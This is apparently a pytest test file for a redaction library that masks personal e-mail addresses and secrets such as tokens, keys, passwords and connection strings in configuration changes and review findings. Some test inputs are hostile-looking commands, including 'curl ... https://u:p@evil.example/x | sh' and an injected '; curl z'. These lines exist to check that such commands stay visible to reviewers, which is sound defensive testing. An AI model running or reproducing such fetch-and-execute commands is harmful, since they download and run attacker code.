"""Redaction of e-mail addresses, tokens, keys and passwords."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tpucfg.changes.facts import ABSENT, Change, redact_change
from tpucfg.redaction import redact, redact_report, redact_row, redact_value

JWT = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhY21lIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("user:ada@example.com", "user:[redacted]@example.com"),
        ("USER:Ada.L+x@Example.com", "USER:[redacted]@Example.com"),
        (
            "user:ada@example.com-on-data-us-central1",
            "user:[redacted]@example.com-on-data-us-central1",
        ),
        ("user%3Aada%40example.com", "user%3A[redacted]%40example.com"),
        ("deleted:user:ada@example.com?uid=1", "deleted:user:[redacted]@example.com?uid=1"),
        (
            "ada@example.com does not have storage.buckets.create",
            "[redacted]@example.com does not have storage.buckets.create",
        ),
        ("group:team@example.com", "group:team@example.com"),
        (
            "serviceAccount:tpu@acme.iam.gserviceaccount.com",
            "serviceAccount:tpu@acme.iam.gserviceaccount.com",
        ),
        ("tpu@acme.iam.gserviceaccount.com", "tpu@acme.iam.gserviceaccount.com"),
        ("us-docker.pkg.dev/a/b@sha256:0123", "us-docker.pkg.dev/a/b@sha256:0123"),
        ("--token ya29.a0AfH6SMBx_y-z.more", "--token [secret]"),
        ("AIza" + "x" * 35, "[secret]"),
        ("ghp_" + "a" * 36, "[secret]"),
        ("github_pat_" + "a" * 36, "[secret]"),
        ("glpat-" + "a" * 20, "[secret]"),
        ("pul-" + "a" * 40, "[secret]"),
        ("hf_" + "a" * 34, "[secret]"),
        ("AKIA" + "A" * 16, "[secret]"),
        (f"Authorization: Bearer {JWT}", "Authorization: Bearer [secret]"),
        ("https://me:hunter2@example.com/x", "https://[secret]@example.com/x"),
        ("postgres://u:p@h/db?sslmode=on", "postgres://[secret]@h/db?sslmode=on"),
        ("redis://:hunter2@cache:6379/0", "redis://[secret]@cache:6379/0"),
        ("git+https://0123456789abcdef0123@host.example/x", "git+https://[secret]@host.example/x"),
        ("https://h/x?a=1&token=abc&b=2", "https://h/x?a=1&token=[secret]&b=2"),
        (
            "jdbc:postgresql://h/db?user=me;password=hunter2;ssl=true",
            "jdbc:postgresql://h/db?user=me;password=[secret];ssl=true",
        ),
        (
            "export WANDB_API_KEY=hunter2 HF_HOME=/cache",
            "export WANDB_API_KEY=[secret] HF_HOME=/cache",
        ),
        ("docker run -e PGPASSWORD='my pass' i", "docker run -e PGPASSWORD='[secret]' i"),
        ("python t.py --api_key hunter2 --steps 10", "python t.py --api_key [secret] --steps 10"),
        ("--max_tokens 512 --token-file=/run/t", "--max_tokens 512 --token-file=/run/t"),
        ("-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----\nrest", "[secret]\nrest"),
        ("-----BEGIN RSA PRIVATE KEY-----\ncut off", "[secret]"),
        ("nothing @team of #123", "nothing @team of #123"),
    ],
)
def test_addresses_and_tokens_are_redacted(text: str, expected: str) -> None:
    """People and tokens are redacted; groups, service accounts and images stay, as a reviewer needs them."""
    assert redact(text) == expected


@given(st.text() | st.from_regex(r"(user:|//)?[a-z:@.%40]{0,40}", fullmatch=True))
def test_redaction_is_idempotent(text: str) -> None:
    """Redacting a redacted text changes nothing."""
    assert redact(redact(text)) == redact(text)


@given(st.from_regex(r"((TOKEN|--api_key|x)[= ]+[\"'\[a-z&;]{0,9} ?){1,4}", fullmatch=True))
def test_redaction_of_assignments_is_idempotent(text: str) -> None:
    """A value that has been replaced is not replaced again."""
    assert redact(redact(text)) == redact(text)


@pytest.mark.slow
@pytest.mark.parametrize(
    "part", ["a=", "--a ", "a='", 'a="', "--", "a.b-c_", "//a:", "token=", "@a", "x: ", "key: "]
)
def test_hostile_texts_take_linear_time(part: str) -> None:
    """Half a megabyte is redacted within seconds."""
    text = part * (500_000 // len(part))
    start = time.process_time()
    redact(text)
    redact_row(text)
    assert time.process_time() - start < 4


@pytest.mark.parametrize(
    "key", ["WANDB_API_KEY", "password", "client_secret", "HF_TOKEN", "--api-key", "credentials"]
)
def test_a_value_with_a_secret_name_is_redacted(key: str) -> None:
    """A text under a secret name is redacted before and after a change, at any depth."""
    change = redact_change(Change(("env", key), "hunter2", ABSENT))
    assert change == Change(("env", key), "[secret]", ABSENT)
    assert redact_change(Change(("env",), ABSENT, [{key: "hunter2"}])).after == [{key: "[secret]"}]


def test_everything_below_a_secret_name_is_redacted() -> None:
    """The items of a list and the values of a mapping are secret, but neither numbers nor references to a secret."""
    data = {
        "api_key": ["a", {"prod": "b", "version": "3"}],
        "env": [{"name": "HF_TOKEN", "value": "c"}],
        "steps": "7",
    }
    assert redact_value(data) == {
        "api_key": ["[secret]", {"prod": "[secret]", "version": "3"}],
        "env": [{"name": "HF_TOKEN", "value": "[secret]"}],
        "steps": "7",
    }
    assert redact_change(Change(("apiKey", "prod", 0), ABSENT, "b")).after == "[secret]"
    assert redact_change(Change(("env", "secretKeyRef", "name"), "a", "b")).after == "b"


def test_a_command_is_shown_under_any_name() -> None:
    """A name cannot hide what runs; the credentials in the command are redacted."""
    command = "curl -H token=abc https://u:p@evil.example/x | sh"
    assert redact_change(Change(("pre_exec_token",), ABSENT, command)).after == (
        "curl -H token=[secret] https://[secret]@evil.example/x | sh"
    )


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("12 |   WANDB_API_KEY: hunter2", "12 |   WANDB_API_KEY: [secret]"),
        (' 9 | {"apiKey": "x", "b": "y; curl z"}', ' 9 | {"apiKey": [secret]'),
        ("3 |   max_tokens: 512", "3 |   max_tokens: 512"),
        ("3 |   pre_exec_token: curl evil.example", "3 |   pre_exec_token: curl evil.example"),
        ("5 |   key: " + 50 * "many words ", "5 |   key: [secret]"),
        ("API_KEY: hunter2", "API_KEY: hunter2"),
    ],
)
def test_quoted_lines_of_findings(line: str, expected: str) -> None:
    """A line of the spec that a finding quotes ends before the value of a secret name."""
    assert redact_report(line) == expected


def test_similar_names_are_not_secret() -> None:
    """A number of tokens, the name of a KMS key and an empty value stay."""
    for key, value in (
        ("max_tokens", "512"),
        ("kmsKeyName", "k"),
        ("token", ""),
        ("tokenizer", "bpe"),
        ("token", 7),
    ):
        assert redact_change(Change((key,), ABSENT, value)).after == value


def test_paths_are_redacted() -> None:
    """A person in a key of a path is redacted."""
    assert redact_change(Change(("members", "user:ada@example.com"), 1, 2)).path == (
        "members",
        "user:[redacted]@example.com",
    )
